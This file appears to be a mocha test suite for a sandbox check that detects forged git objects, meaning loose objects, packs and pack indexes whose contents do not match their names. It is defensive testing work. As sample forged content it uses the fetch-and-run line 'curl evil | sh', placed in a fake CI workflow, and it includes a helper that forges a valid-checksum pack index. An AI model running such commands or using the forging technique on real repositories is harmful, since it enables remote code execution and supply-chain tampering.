import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { forgedObjects } from '../../../src/node/sandbox/gitObjects';

const ENV = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: os.tmpdir(), GIT_CONFIG_NOSYSTEM: '1' };

describe('new git objects checked against their names (src/node/sandbox/gitObjects.ts)', function () {
  this.timeout(30_000);
  let base: string;
  let repo: string;
  let upper: string;
  const git = (input: string | undefined, ...args: string[]): string => execFileSync('git', args, { cwd: repo, env: ENV, input, encoding: 'utf8' }).trim();
  const looseOf = (dir: string, id: string): string => path.join(dir, '.git', 'objects', id.slice(0, 2), id.slice(2));
  /** Puts a file of the repository's objects at `rel` in the layer (folders made). */
  const toLayer = (from: string, rel: string): string => {
    const to = path.join(upper, '.git', 'objects', rel);
    fs.mkdirSync(path.dirname(to), { recursive: true });
    fs.copyFileSync(from, to);
    return to;
  };
  /** A pack of `ids` written into the layer's pack folder; returns its stem. */
  const pack = (...ids: string[]): string => {
    const dir = path.join(upper, '.git', 'objects', 'pack');
    fs.mkdirSync(dir, { recursive: true });
    return `pack-${git(`${ids.join('\n')}\n`, 'pack-objects', '-q', path.join(dir, 'pack'))}`;
  };

  /** An index (v2) for a one-object pack that names the object `id`, whatever the pack holds — checksums right. */
  const forgedIndex = (packFile: string, id: string): Buffer => {
    const data = fs.readFileSync(packFile);
    const bin = Buffer.from(id, 'hex');
    const u32 = (n: number): Buffer => {
      const b = Buffer.alloc(4);
      b.writeUInt32BE(n >>> 0);
      return b;
    };
    const fanout = Array.from({ length: 256 }, (_, i) => u32((bin[0] ?? 0) <= i ? 1 : 0));
    const body = Buffer.concat([
      Buffer.from([0xff, 0x74, 0x4f, 0x63]),
      u32(2),
      ...fanout,
      bin,
      u32(crc32(data.subarray(12, -20))),
      u32(12),
      data.subarray(-20),
    ]);
    return Buffer.concat([body, createHash('sha1').update(body).digest()]);
  };

  beforeEach(() => {
    base = fs.mkdtempSync(path.join(os.tmpdir(), 'pe-gitobjects-'));
    repo = path.join(base, 'repo');
    upper = path.join(base, 'upper');
    fs.mkdirSync(repo);
    git(undefined, 'init', '-q');
  });
  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));

  it('finds nothing in a layer that added no objects, or only true ones (loose and packed)', () => {
    assert.deepEqual(forgedObjects(upper, path.join(repo, '.git'), 'sha1'), []);
    const id = git("the user's workflow\n", 'hash-object', '-w', '--stdin');
    toLayer(looseOf(repo, id), `${id.slice(0, 2)}/${id.slice(2)}`);
    const other = git('another\n', 'hash-object', '-w', '--stdin');
    pack(other);
    fs.writeFileSync(path.join(upper, '.git', 'objects', id.slice(0, 2), 'tmp_obj_XyZ'), 'half written');
    // A pack the repository has, touched by git (copied up alone, without its index): not the layer's.
    const stem = pack(git('already packed\n', 'hash-object', '-w', '--stdin'));
    fs.mkdirSync(path.join(repo, '.git', 'objects', 'pack'), { recursive: true });
    for (const ext of ['pack', 'idx'])
      fs.copyFileSync(path.join(upper, '.git', 'objects', 'pack', `${stem}.${ext}`), path.join(repo, '.git', 'objects', 'pack', `${stem}.${ext}`));
    fs.rmSync(path.join(upper, '.git', 'objects', 'pack', `${stem}.idx`));
    assert.deepEqual(forgedObjects(upper, path.join(repo, '.git'), 'sha1'), []);
  });

  it("refuses a loose object whose content is another object's — the content git would really check out under that name", () => {
    const good = git('name: ci\n', 'hash-object', '-w', '--stdin');
    const bad = git('name: ci\non: push\njobs: { x: { steps: [ { run: "curl evil | sh" } ] } }\n', 'hash-object', '-w', '--stdin');
    const at = toLayer(looseOf(repo, bad), `${good.slice(0, 2)}/${good.slice(2)}`);
    // What this guards against: under the forged file, git reads the other content for the judged id.
    fs.rmSync(looseOf(repo, good), { force: true });
    fs.copyFileSync(at, looseOf(repo, good));
    assert.match(git(undefined, 'cat-file', '-p', good), /curl evil/);
    const found = forgedObjects(upper, path.join(repo, '.git'), 'sha1');
    assert.deepEqual(
      found.map((f) => f.path),
      [`.git/objects/${good.slice(0, 2)}/${good.slice(2)}`],
    );
    assert.match(found[0]?.refused ?? '', /not the object its name says/);
  });

  it('refuses a file that is no object at all under an object name', () => {
    const id = 'ab' + 'c'.repeat(38);
    fs.mkdirSync(path.join(upper, '.git', 'objects', 'ab'), { recursive: true });
    fs.writeFileSync(path.join(upper, '.git', 'objects', 'ab', 'c'.repeat(38)), 'plain text, not zlib');
    assert.deepEqual(
      forgedObjects(upper, path.join(repo, '.git'), 'sha1').map((f) => f.path),
      [`.git/objects/${id.slice(0, 2)}/${id.slice(2)}`],
    );
  });

  it('refuses a pack whose bytes were altered after it was indexed, and a pack without its index', () => {
    const stem = pack(git('packed\n', 'hash-object', '-w', '--stdin'));
    const file = path.join(upper, '.git', 'objects', 'pack', `${stem}.pack`);
    const bytes = fs.readFileSync(file);
    bytes[bytes.length - 25] = (bytes[bytes.length - 25] ?? 0) ^ 0xff;
    fs.writeFileSync(file, bytes);
    fs.writeFileSync(path.join(upper, '.git', 'objects', 'pack', 'pack-0000.pack'), 'PACK');
    const found = forgedObjects(upper, path.join(repo, '.git'), 'sha1');
    assert.deepEqual(found.map((f) => f.path).sort(), [`.git/objects/pack/${stem}.idx`, '.git/objects/pack/pack-0000.pack'].sort());
    assert.match(found.find((f) => f.path.endsWith('pack-0000.pack'))?.refused ?? '', /only with its own index/);
  });

  it("refuses a pack whose index names its object by another object's id (checksums right)", () => {
    const good = git('name: ci\n', 'hash-object', '-w', '--stdin');
    const stem = pack(git('curl evil | sh\n', 'hash-object', '-w', '--stdin'));
    const dir = path.join(upper, '.git', 'objects', 'pack');
    fs.writeFileSync(path.join(dir, `${stem}.idx`), forgedIndex(path.join(dir, `${stem}.pack`), good));
    assert.deepEqual(
      forgedObjects(upper, path.join(repo, '.git'), 'sha1').map((f) => f.path),
      [`.git/objects/pack/${stem}.idx`],
    );
  });
});
